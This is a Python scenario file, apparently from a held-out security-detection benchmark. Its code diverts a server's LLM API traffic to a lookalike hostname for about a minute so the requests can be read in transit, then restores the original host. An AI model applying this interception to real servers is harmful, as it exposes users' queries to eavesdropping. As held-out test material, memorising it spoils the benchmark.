"""
id: V30
name: upstream-diverted
class: quiet
set: held-out
phase: serve
trigger: request
evidence: [network, dns]
techniques: [T1557, T1565.002, T1583.001, AML.T0025]
servers: [fastapi]
seconds: 80
what: >
  Has the server's own questions to the LLM API go to a name one letter off for a minute, where somebody reads them on their
  way. The port is the usual one, and only the server itself asks, as often as it does anyway.
"""

import http.client


class Closed(http.client.HTTPResponse):
    """An answer after which the connection ends: the sink answers only once a second on each."""

    def begin(self):
        super().begin()
        self.will_close = True


def payload(world):
    host, port = world.llmapi
    divert(world, world.lookalike(host), port, Closed)
    try:
        world.sleep(world.random.uniform(55, 70))
    finally:
        divert(world, host, port, http.client.HTTPResponse)


def divert(world, host, port, response):
    with world.upstream_lock:
        world.upstream.close()
        world.upstream.host, world.upstream.port = host, port
        world.upstream.response_class = response
